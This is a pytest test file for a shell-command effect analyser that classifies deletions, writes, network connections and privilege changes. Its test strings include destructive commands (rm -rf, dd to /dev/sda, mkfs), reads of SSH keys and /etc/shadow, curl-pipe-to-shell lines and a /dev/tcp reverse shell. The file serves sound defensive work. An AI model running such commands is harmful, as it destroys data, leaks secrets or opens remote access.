"""What the bundle's programs do, and how their words are read."""

from __future__ import annotations

import pytest

from callgate.model.values import UNKNOWN
from tests.effects.reading import PROGRAMS, all_shown, effects, opaque, shown

SSH = "connect scheme=ssh host=h port=22 address_class=public"
HTTP = "connect url=http://h/{} scheme=http host=h port=80 address_class=public"
SENT = "transfer path={} url=http://h/ host=h address_class=public"
CLONE = "connect url={} scheme=ssh host=h port=22 address_class=public"


def two(effect: str) -> list[str]:
    """A path by itself, and as a tree."""
    return [effect, f"{effect} tree=True"]


EFFECTS: list[tuple[str, list[str]]] = [
    # deleting
    ("rm x", ["delete path=/w/x"]),
    ("rm -rf x", ["delete path=/w/x recursive=True"]),
    ("rm -fr x", ["delete path=/w/x recursive=True"]),
    ("rm -r -f x", ["delete path=/w/x recursive=True"]),
    ("rm -Rf x", ["delete path=/w/x recursive=True"]),
    ("rm --recursive --force x", ["delete path=/w/x recursive=True"]),
    ("rm --rec x", ["delete path=/w/x recursive=True"]),
    ("rm x -r", ["delete path=/w/x recursive=True"]),
    ("rm -- -r x", ["delete path=/w/-r", "delete path=/w/x"]),
    ("rm --interactive=once x y", ["delete path=/w/x", "delete path=/w/y"]),
    ("/bin/rm x", ["delete path=/w/x"]),
    ("rm $X", ["delete path=? recursive=?"]),
    ('rm "$X"', ["delete path=? recursive=?"]),
    ("rm -- $X", ["delete path=?"]),
    ('rm "/tmp/$X"', ["delete path=?"]),
    ("rm -rf $X", ["delete path=? recursive=True"]),
    ("rm -f a $X", ["delete path=/w/a recursive=?", "delete path=? recursive=?"]),
    ("unlink x", ["delete path=/w/x"]),
    ("rmdir -p x", ["delete path=/w/x"]),
    ("shred -u x", ["write path=/w/x", "delete path=/w/x"]),
    ("find . -delete", ["delete path=/w/* recursive=True"]),
    ("find / -type f -delete", ["delete path=/* recursive=True"]),
    ("find . -name '*.o' -delete", ["delete path=/w/**/*.o recursive=True"]),
    ("find . -name x -o -name y -delete", ["delete path=/w/* recursive=True"]),
    ("find . ! -name x -delete", ["delete path=/w/* recursive=True"]),
    (
        "find a b -exec rm {} +",
        [
            "delete path=/w/a/* recursive=True",
            "delete path=/w/b/* recursive=True",
        ],
    ),
    ("find . -exec rm -rf {} \\; -print", ["delete path=/w/* recursive=True"]),
    ("find . -name x -exec rm {} +", ["delete path=/w/**/x"]),
    ("find . -name .env -delete", ["delete path=/w/**/.env recursive=True"]),
    ("find . -name '.e*' -delete", ["delete path=? recursive=True"]),
    ("find / -name x -exec cat {} +", ["read path=/**/x", "read path=?"]),
    ("find /y -exec cat {} +", ["read path=/y/*", "read path=?"]),
    ("find /y -exec rm {} +", ["delete path=/y/* recursive=True"]),
    (
        "find / -name x -delete",
        ["delete path=/**/x recursive=True", "delete path=? recursive=True"],
    ),
    ("find /y* -delete", ["delete path=? recursive=True"]),
    ("find . | xargs rm", ["delete path=/w/* recursive=True"]),
    ("find . | xargs -0 rm -rf", ["delete path=/w/* recursive=True"]),
    ("ls | xargs -I{} rm -r {}", ["delete path=/w/* recursive=True"]),
    ("git clean -fdx", ["delete path=/w recursive=True"]),
    (
        "git -C /x clean -fd",
        ["interpret language=shell source=file", "delete path=/x recursive=True"],
    ),
    ("git clean -n", []),
    ("git rm --cached x", []),
    ("git rm -r x", ["delete path=/w/x recursive=True"]),
    (
        "rsync -a --delete a/ b/",
        [
            *("read path=/w/a tree=True", "write path=/w/b/a tree=True"),
            *("write path=/w/b tree=True", "delete path=/w/b recursive=True"),
        ],
    ),
    # writing
    ("a > x", ["write path=/w/x"]),
    ("a >> x 2> y &> z", ["write path=/w/x", "write path=/w/y", "write path=/w/z"]),
    ("a > /dev/null 2>&1", []),
    ("a >&2 <&3 2>&-", []),
    ("> x", ["write path=/w/x"]),
    ("a <> x", ["read path=/w/x", "write path=/w/x"]),
    ("a > $X", ["write path=?"]),
    ("a | tee x -a y", ["write path=/w/x", "write path=/w/y"]),
    ("{ a; b; } > x", ["write path=/w/x"]),
    ("for i in 1 2; do a; done > x", ["write path=/w/x"]),
    ("touch x; mkdir -p y/{1,2}", ["write path=/w/x", "write path=/w/y/1", "write path=/w/y/2"]),
    ("truncate -s 0 x", ["write path=/w/x"]),
    ("cp a b", ["read path=/w/a", "write path=/w/b", "write path=/w/b/a (doubtful)"]),
    ("cp d/a b/", ["read path=/w/d/a", "write path=/w/b", "write path=/w/b/a"]),
    ("cp -t b a", ["write path=/w/b", "write path=/w/b/a", "read path=/w/a"]),
    (
        "mv a b/",
        [
            *(
                "read path=/w/a",
                "delete path=/w/a",
                "write path=/w/b",
                "write path=/w/b/a tree=True",
            ),
        ],
    ),
    (
        "mv a b",
        [
            *("read path=/w/a", "delete path=/w/a", "write path=/w/b", "write path=/w/b tree=True"),
            "write path=/w/b/a tree=True (doubtful)",
        ],
    ),
    ("mv -T a ~/", ["read path=/w/a", "delete path=/w/a", *two("write path=/home/u")]),
    (
        "ln -s /etc/shadow x",
        [
            *("read path=/etc/shadow tree=True", "mention path=/etc/shadow"),
            *two("write path=/w/x"),
            "write path=/w/x/shadow tree=True (doubtful)",
        ],
    ),
    # trees
    (
        "cp -r a ~/",
        ["read path=/w/a tree=True", "write path=/home/u", "write path=/home/u/a tree=True"],
    ),
    (
        "cp -r a/. ~",
        ["read path=/w/a tree=True", "write path=/home/u", "write path=/home/u tree=True"],
    ),
    ("cp -rT a ~", ["read path=/w/a tree=True", *two("write path=/home/u")]),
    (
        "cp -r a b",
        [
            *("read path=/w/a tree=True", *two("write path=/w/b")),
            "write path=/w/b/a tree=True (doubtful)",
        ],
    ),
    ("unzip -o x.zip -d d", ["read path=/w/x.zip", "write path=/w/d tree=True"]),
    ("unzip -l x.zip", ["read path=/w/x.zip"]),
    ("zip -r x.zip ~", ["write path=/w/x.zip", "read path=/home/u tree=True"]),
    # names that are kept
    ("scp h:a/b.json d/", [SSH, "write path=/w/d/b.json", "write path=/w/d"]),
    ("scp -r h:a u@h:b", [SSH, SSH]),
    ("rsync h:b.json d", [SSH, "write path=/w/d/b.json", "write path=/w/d"]),
    ("curl -O http://h/x/a.json?b#c", [HTTP.format("x/a.json?b#c"), "write path=/w/a.json"]),
    ("curl -O --output-dir d http://h/a", [HTTP.format("a"), "write path=/w/d/a"]),
    ("curl -O 'http://h/{a,b}'", [HTTP.format("%7Ba,b%7D"), "write path=?"]),
    ("curl -OJ http://h/a", ["write path=/w tree=True", HTTP.format("a"), "write path=/w/a"]),
    ("wget -P d http://h/%61", [HTTP.format("%61"), "write path=/w/d/a"]),
    ("wget -r http://h/a", ["write path=/w tree=True", HTTP.format("a"), "write path=/w/a"]),
    ("git clone ssh://h/x/d.git", [CLONE.format("ssh://h/x/d.git"), "write path=/w/d tree=True"]),
    ("git clone ssh://h/d.git/", [CLONE.format("ssh://h/d.git/"), "write path=/w/d tree=True"]),
    ("git clone h:.git", [SSH, "write path=/w/.git tree=True"]),
    ("git clone h:d e.git", [SSH, "write path=/w/e.git tree=True"]),
    ("wget http://h/y.git", [HTTP.format("y.git"), "write path=/w/y.git"]),
    ("curl -O http://h/y.git", [HTTP.format("y.git"), "write path=/w/y.git"]),
    ("scp h:y.git d/", [SSH, "write path=/w/d/y.git", "write path=/w/d"]),
    ("curl FILE:/etc/shadow", ["read path=/etc/shadow"]),
    ("curl file:///etc/{a,b}", ["read path=/etc/a", "read path=/etc/b"]),
    ("curl 'file:///etc/{a,b}'", ["read path=?"]),
    (
        "curl -F 'f=</a' -F 'g=@b;type=c' http://h/",
        [
            *("read path=/a", SENT.format("/a"), "read path=/w/b", "read path=/w/type=c"),
            *(SENT.format("/w/b"), SENT.format("/w/type=c"), HTTP.format("")),
        ],
    ),
    (
        "install -m 4755 a /usr/bin/",
        [
            *("read path=/w/a", "write path=/usr/bin", "write path=/usr/bin/a"),
            "permission path=/usr/bin mode=4755",
        ],
    ),
    ("sed -i s/a/b/ x", ["read path=/w/x", "write path=/w/x"]),
    ("sed s/a/b/ x", ["read path=/w/x"]),
    ("sed -n -e 1p -e 2p x", ["read path=/w/x"]),
    ("sort -o x y", ["write path=/w/x", "read path=/w/y"]),
    ("dd if=a of=b bs=1M", ["read path=/w/a", "write path=/w/b"]),
    ("dd of=~/b", ["write path=/home/u/b"]),
    ("tar czf x.tgz d", ["write path=/w/x.tgz", "read path=/w/d tree=True"]),
    ("tar -C / -czf x.tgz etc", ["write path=/w/x.tgz", "read path=/etc tree=True"]),
    ("tar xf x.tar -C /etc", ["read path=/w/x.tar", "write path=/etc tree=True"]),
    ("tar -x --file=x.tar", ["write path=/w tree=True", "read path=/w/x.tar"]),
    (
        "curl -o x http://example.org",
        [
            "write path=/w/x",
            "connect url=http://example.org/ scheme=http host=example.org port=80"
            " address_class=public",
        ],
    ),
    ("git log --output=x", ["write path=/w/x"]),
    # devices
    (
        "dd if=/dev/zero of=/dev/sda",
        [
            *("read path=/dev/zero", "device path=/dev/sda action=write", "write path=/dev/sda"),
        ],
    ),
    ("a > /dev/sda", ["device path=/dev/sda action=write", "write path=/dev/sda"]),
    ("mkfs.ext4 -F /dev/sda1", ["device path=/dev/sda1 action=format"]),
    ("mkfs -t xfs /dev/sdb", ["device path=/dev/sdb action=format"]),
    # reading
    ("cat a - b", ["read path=/w/a", "read path=/w/b"]),
    ("cat < a", ["read path=/w/a"]),
    ("ls", []),
    ("head -n 5 a", ["read path=/w/a"]),
    ("head -5 a", ["read path=/w/a"]),
    ("tail -c +10 a", ["read path=/w/a"]),
    ("grep -rn x .", ["read path=/w tree=True"]),
    ("grep -r x", ["read path=/w tree=True"]),
    ("grep -e x -f p a", ["read path=/w/p", "read path=/w/a"]),
    ("grep x", []),
    ("awk '{print $1}' a", ["read path=/w/a"]),
    ("cat ~/.ssh/id_rsa", ["read path=/home/u/.ssh/id_rsa"]),
    # permissions
    ("chmod -R 777 .", ["permission path=/w mode=777 world_writable=True"]),
    ("chmod 0755 a", ["permission path=/w/a mode=0755"]),
    ("chmod a+w,u+x a", ["permission path=/w/a mode=a+w,u+x world_writable=True"]),
    ("chmod o-w a", ["permission path=/w/a mode=o-w"]),
    ("chmod u+w a", ["permission path=/w/a mode=u+w"]),
    ("chmod gu+w a", ["permission path=/w/a mode=gu+w"]),
    ("chmod ugo+x-r=w a", ["permission path=/w/a mode=ugo+x-r=w world_writable=True"]),
    ("chmod go=u a", ["permission path=/w/a mode=go=u world_writable=True"]),
    ("chmod o=rw a", ["permission path=/w/a mode=o=rw world_writable=True"]),
    ("chmod -w a", ["permission path=/w/a"]),
    ("chmod $M a", ["permission path=/w/a mode=? world_writable=?"]),
    ("chmod $X", ["permission path=? mode=? world_writable=?"]),
    ("chown -R root:root a", ["permission path=/w/a owner=root:root"]),
    # processes, services, power, schedule
    ("kill 1", ["signal target=1 signal=TERM"]),
    ("kill -9 1 2", ["signal target=1 signal=KILL", "signal target=2 signal=KILL"]),
    ("kill -9 -1", ["signal target=-1 signal=KILL"]),
    ("kill -s SIGHUP 1", ["signal target=1 signal=HUP"]),
    ("kill -l", []),
    ("pkill -f x", ["signal target=x signal=TERM"]),
    ("killall -KILL x", ["signal target=x signal=KILL"]),
    ("systemctl stop x y", ["service name=x action=stop", "service name=y action=stop"]),
    ("systemctl --now disable x", ["service name=x action=disable"]),
    ("systemctl status x", []),
    ("systemctl poweroff", ["power action=poweroff"]),
    ("service x restart", ["service name=x action=restart"]),
    ("shutdown -h now", ["power action=shutdown"]),
    ("shutdown -r now", ["power action=reboot"]),
    ("shutdown -c", []),
    ("/sbin/reboot", ["power action=reboot"]),
    ("halt", ["power action=halt"]),
    ("crontab x", ["schedule text=x", "read path=/w/x"]),
    ("crontab -r", ["schedule text=every entry is removed"]),
    ("crontab -l", []),
    # wrappers
    ("sudo rm x", ["privilege user=root", "delete path=/w/x"]),
    ("sudo -u bob -- rm x", ["privilege user=bob", "delete path=/w/x"]),
    (
        "sudo A=1 -E rm x",
        ["privilege user=root", "environment name=A value=1", "delete path=/w/x"],
    ),
    ("sudo -l", []),
    ("sudo -k", []),
    ("sudo -k rm x", ["privilege user=root", "delete path=/w/x"]),
    ("sudo -nk rm x", ["privilege user=root", "delete path=/w/x"]),
    ("sudo --reset-timestamp rm x", ["privilege user=root", "delete path=/w/x"]),
    (
        "sudo -s <<< 'rm x'",
        [
            *("privilege user=root", "interpret language=shell source=inline", "delete path=/w/x"),
        ],
    ),
    ("sudo -e /etc/x", ["privilege user=root", "write path=/etc/x"]),
    ("sudo --unknown y rm x", ["privilege user=root", "delete path=/w/x"]),
    ("doas rm x", ["privilege user=root", "delete path=/w/x"]),
    (
        "env -i A=1 B=2 rm x",
        ["environment name=A value=1", "environment name=B value=2", "delete path=/w/x"],
    ),
    ("env -u A rm x", ["delete path=/w/x"]),
    ("env -C /y rm x", ["delete path=/y/x"]),
    ("env -S 'rm -rf' x", ["delete path=/w/x recursive=True"]),
    (
        "env '-SA=1 rm -rf x'",
        ["environment name=A value=1", "delete path=/w/x recursive=True"],
    ),
    ("env -S 'rm $X'", ["opaque reason=the command's name is not known before it runs"]),
    ("taskset 0x1 rm x", ["delete path=/w/x"]),
    ("taskset -c 0,1 rm x", ["delete path=/w/x"]),
    ("taskset -p 0x1 1", []),
    ("chrt 50 rm x", ["delete path=/w/x"]),
    ("chrt -o rm x", ["delete path=? recursive=?", "delete path=/w/x recursive=?"]),
    ("nsenter -t 1 -m rm x", ["delete path=/w/x"]),
    ("unshare -n rm x", ["delete path=/w/x"]),
    ("setsid -c rm x", ["delete path=/w/x"]),
    ("ionice -c 3 -n 1 rm x", ["delete path=/w/x"]),
    ("ionice -p 1", []),
    ("strace -f -e trace=file -o y rm x", ["write path=/w/y", "delete path=/w/x"]),
    ("xvfb-run -a -n 9 rm x", ["delete path=/w/x"]),
    ("caffeinate -t 9 rm x", ["delete path=/w/x"]),
    ("proxychains4 -f y rm x", ["delete path=/w/x"]),
    ("nohup nice -n 5 timeout -k 1 5 rm x", ["delete path=/w/x"]),
    ("nice -10 rm x", ["delete path=/w/x"]),
    ("time -p rm x", ["delete path=/w/x"]),
    ("command rm x", ["delete path=/w/x"]),
    ("builtin command exec rm x", ["delete path=/w/x"]),
    ("exec -a y rm x", ["delete path=/w/x"]),
    ("stdbuf -oL rm x", ["delete path=/w/x"]),
    ("busybox rm x", ["delete path=/w/x"]),
    ("chroot /y rm x", ["interpret language=native source=file", "delete path=/w/x"]),
    ("xargs -n 1 rm -f x", ["delete path=? recursive=?", "delete path=/w/x recursive=?"]),
    ("xargs -I % rm -r y", ["delete path=? recursive=True", "delete path=/w/y recursive=True"]),
    ("xargs -I % rm %", ["delete path=? recursive=?"]),
    ("xargs -i rm {}", ["delete path=? recursive=?"]),
    ("xargs -a f -I % cat y", ["read path=?", "read path=/w/f", "read path=/w/y"]),
    ("trap 'rm x' EXIT", ["delete path=/w/x"]),
    ("watch -n 1 rm x", ["delete path=/w/x"]),
    (
        "su -c 'rm x' bob",
        [
            *("interpret language=shell source=inline", "delete path=/w/x", "privilege user=bob"),
        ],
    ),
    (
        "su bob -- -c 'rm x'",
        [
            *("privilege user=bob", "interpret language=shell source=inline", "delete path=/w/x"),
        ],
    ),
    (
        "su <<< 'rm x'",
        [
            *("privilege user=root", "interpret language=shell source=inline", "delete path=/w/x"),
        ],
    ),
    ("su -s /bin/rm bob x", ["privilege user=bob", "delete path=/w/x"]),
    (
        "runuser -u bob -- rm -r x",
        [
            *("privilege user=bob", "delete path=/w/x recursive=True"),
        ],
    ),
    (
        "runuser bob -c 'rm x'",
        [
            *("privilege user=bob", "interpret language=shell source=inline", "delete path=/w/x"),
        ],
    ),
    # programs that nobody described
    ("foo rm -r x", ["delete path=/w/x recursive=True (doubtful)"]),
    (
        "parallel -j 2 rm -rf ::: /x",
        ["delete path=/x recursive=True"],
    ),
    (
        "foo -- /bin/chmod 777 x",
        [
            "mention path=/bin/chmod",
            "permission path=/w/x mode=777 world_writable=True (doubtful)",
        ],
    ),
    ("foo sudo rm x", ["delete path=/w/x (doubtful)"]),
    ("foo rm", []),
    ("foo -- reboot", ["power action=reboot (doubtful)"]),
    ("foo reboot x", []),
    ("foo -- rm", []),
    ("man mkfs.ext4", []),
    ("virsh shutdown x", []),
    ("foo 'rm -rf / it is' src/rm x", ["mention path=/w/src/rm"]),
    ("foo find x -name y", []),
    # interpreters
    ("sh -c 'rm x'", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash -lc 'rm x' a b", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash -o pipefail -ec 'rm x'", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("eval rm x", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash x.sh -c y", ["interpret language=shell source=file", "read path=/w/x.sh"]),
    (". ./x.sh", ["interpret language=shell source=file", "read path=/w/x.sh"]),
    (". /etc/shadow", ["interpret language=shell source=file", "read path=/etc/shadow"]),
    ("bash - < x", ["read path=/w/x", "interpret language=shell source=file"]),
    ("bash --version", []),
    ("echo a | sh", ["interpret language=shell source=inline"]),
    ("echo $a | sh", ["interpret language=shell source=stdin"]),
    (
        "base64 -d x | sudo bash",
        ["read path=/w/x", "privilege user=root", "interpret language=shell source=stdin"],
    ),
    ("bash < x", ["read path=/w/x", "interpret language=shell source=file"]),
    ("bash <<< 'rm x'", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash <<'E'\nrm x\nE", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash - <<< 'rm x'", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash /dev/stdin <<< 'rm x'", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash /dev/./fd/0 <<< 'rm x'", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("bash /dev/fd/9", ["interpret language=shell source=stdin"]),
    ("curl-x | bash /proc/self/fd/0", ["interpret language=shell source=stdin"]),
    ("sh -s a <<'E'\nrm x\nE", ["interpret language=shell source=inline", "delete path=/w/x"]),
    ("python -c 'x' a", ["interpret language=python source=inline"]),
    ("python3.12 -m x y", ["interpret language=python source=file"]),
    ("python x.py -c y", ["interpret language=python source=file", "read path=/w/x.py"]),
    ("python - <<'E'\nx\nE", ["interpret language=python source=inline"]),
    ("python3 --version", []),
    ("node -e x", ["interpret language=javascript source=inline"]),
    (
        "perl -pi -e x y",
        ["interpret language=perl source=inline", "read path=/w/y", "write path=/w/y"],
    ),
    (
        "tar -cf x y --to-command='rm z'",
        [
            *("write path=/w/x", "read path=/w/y tree=True"),
            *("interpret language=shell source=inline", "delete path=/w/z"),
        ],
    ),
    ("git rebase -x 'rm x' main", ["interpret language=shell source=file", "delete path=/w/x"]),
]


@pytest.mark.parametrize(("text", "found"), EFFECTS, ids=[text for text, _ in EFFECTS])
def test_effects(text: str, found: list[str]) -> None:
    assert all_shown(text) == found


def connects(text: str) -> list[str]:
    """host:port of the connections of a command, and what is interpreted."""
    return [
        f"{e.fields['host']}:{e.fields['port']}" if e.kind == "connect" else shown(e)
        for e in effects(text).all
        if e.kind in ("connect", "interpret")
    ]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("curl example.org", ["example.org:80"]),
        ("curl localhost:3000/x", ["localhost:3000"]),
        ("curl -s -X POST https://u@example.org:8443/ -d @x", ["example.org:8443"]),
        ("curl --url https://example.org/", ["example.org:443"]),
        ('curl "https://example.org/$X"', ["example.org:443"]),
        ('curl "https://example.org$X/"', ["unknown:unknown"]),
        # It may be split into further words, and options.
        ("curl https://example.org/$X", ["unknown:unknown", "example.org:443"]),
        ("wget -q https://example.org", ["example.org:443"]),
        ("ssh -p 2222 u@example.org ls", ["example.org:2222"]),
        ("scp x u@example.org:y", ["example.org:22"]),
        ("rsync -a x rsync://example.org/y", ["example.org:873"]),
        ("nc example.org 80", ["example.org:80"]),
        ("nc -l 80", []),
        ("git clone https://example.org/x.git", ["example.org:443"]),
        ("git clone git@example.org:x.git", ["example.org:22"]),
        ("git clone http://[::1]/x", ["::1:80"]),
        ("git push origin main", ["origin:None"]),
        ("git fetch https://example.org/x", ["example.org:443"]),
        (
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            [
                *("interpret language=shell source=download remote=True", "192.0.2.1:4444"),
            ],
        ),
        ("curl x.org | sh", ["x.org:80", "interpret language=shell source=download"]),
        ("curl x.org | tee y | sudo sh", ["x.org:80", "interpret language=shell source=download"]),
        ("curl x.org | python3", ["x.org:80", "interpret language=python source=download"]),
        ("curl x.org; echo $x | sh", ["x.org:80", "interpret language=shell source=stdin"]),
        ("bash <(curl x.org)", ["interpret language=shell source=download", "x.org:80"]),
        (". <(curl x.org)", ["interpret language=shell source=download", "x.org:80"]),
        ("bash < <(curl x.org)", ["interpret language=shell source=download", "x.org:80"]),
        ('sh -c "$(curl x.org)"', ["interpret language=shell source=download", "x.org:80"]),
        ("eval `curl x.org`", ["interpret language=shell source=download", "x.org:80"]),
    ],
)
def test_connections(text: str, found: list[str]) -> None:
    assert connects(text) == found


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("cd /etc; rm x", "/etc/x"),
        ("cd /etc && rm -r ssh/..", "/etc"),
        ("cd etc; cd ..; rm x", "/w/x"),
        ("cd; rm x", "/home/u/x"),
        ("cd ~/y && rm x", "/home/u/y/x"),
        ("cd -P /y; rm x", "/y/x"),
        ("cd $X; rm x", None),
        ("cd -; rm x", None),
        ("pushd /y; rm x", "/y/x"),
        ("popd; rm x", None),
        ("(cd /y); rm x", "/w/x"),
        ("(cd /y; rm x)", "/y/x"),
        ("cd /y | a; rm x", "/w/x"),
        ("cd /y & rm x", "/w/x"),
        ("cd /y && a >z | b; rm x", "/y/x"),
        ("cd /y && a >$z | b; rm x", "/y/x"),
        ("{ cd /y; }; rm x", "/y/x"),
        ("cd /y || exit; rm x", "/y/x"),
        ("cd /y || rm x", "/w/x"),
        ("cd /y || cd /z; rm x", None),
        ("if a; then cd /y; fi; rm x", None),
        ("if cd /y; then rm x; fi", "/y/x"),
        ("while a; do rm x; cd ..; done", None),
        ("while a; do rm x; (cd ..); done", "/w/x"),
        ("f() { rm x; }; cd /y; f", None),
        ("f() { rm x; }; f", "/w/x"),
        ("eval cd /y; rm x", "/y/x"),
        ("command cd /y; rm x", "/y/x"),
        ("sh -c 'cd /y'; rm x", "/w/x"),
        ("sh -c 'cd /y; rm x'", "/y/x"),
        ("cd /y; sh -c 'rm x'", "/y/x"),
        ("cd --unknown /y; rm x", None),
        ("f() { cd /y; }; f; rm x", None),
        ("g() { f; }; f() { cd /y; }; g; rm x", None),
        ("cd() { builtin cd /y; }; cd /z; rm x", None),
        ("f() { a; }; cd /y; f; rm x", "/y/x"),
        ("f() { (cd /y); }; f; rm y", None),
        ("source a; rm x", "/w/x"),
        (". ./a && rm x", "/w/x"),
        (". /dev/stdin <<< 'cd /y'; rm x", "/y/x"),
        ("HOME=/y; cd; rm x", None),
        ("CDPATH=/y; cd z; rm x", None),
        ("export CDPATH=/y; cd z; rm x", None),
        ("CDPATH=/y cd z; rm x", None),
        ("CDPATH=/y; cd /z; rm x", "/z/x"),
        ("PWD=/y; rm x", "/w/x"),
        ('PWD=/y; rm "$PWD/x"', None),
        ("rm $HOME/x", "/home/u/x"),
        ("HOME=/ ; rm $HOME/x", "/x"),
        ("rm ~/x; export HOME=/", None),
        ("eval HOME=/; rm ~/x", None),
        ("read HOME; rm ~/x", None),
        ("for HOME in /; do rm ~/x; done", None),
        ("rm $PWD/x", "/w/x"),
        ("cd /y; rm $PWD/x", "/y/x"),
    ],
)
def test_the_folder_in_which_it_happens(text: str, path: str | None) -> None:
    (delete,) = effects(text).by_kind["delete"]
    assert delete.fields["path"] == (path or UNKNOWN)


@pytest.mark.parametrize(
    "text",
    ["git clone ext::date x", "git fetch 'ext::sh -c /x'", "git push ext::date main"],
)
def test_a_transport_that_runs_a_program(text: str) -> None:
    assert "a transport that runs a program" in opaque(text)
    assert not connects(text)


@pytest.mark.parametrize(
    ("text", "idle"),
    [
        ("X=1", True),
        ("# nothing", True),
        ("X=1; PATHS=/x; PSQL=x", True),
        ("X=1; PATH=/x", False),
        ("PYTHONPATH=/x", True),
        ("GOPATH_X=1 MY_PATH=/x", False),
        ("GIT_DIR=x", False),
        ("LD_PRELOAD=x", False),
        ("PS1=x", False),
        ("MAN_PAGER=x", False),
    ],
)
def test_variables_that_are_obeyed(text: str, idle: bool) -> None:
    assert opaque(text) == ([] if idle else ["no command was found in the text"])


def test_every_program_is_read() -> None:
    from callgate.effects.programs import Programs

    programs = Programs(PROGRAMS)
    for name, entry in PROGRAMS.items():
        for known in (name, *entry.get("also", ())):
            if "*" not in known:
                found = programs.get(known)
                assert found is not None and found.name == name
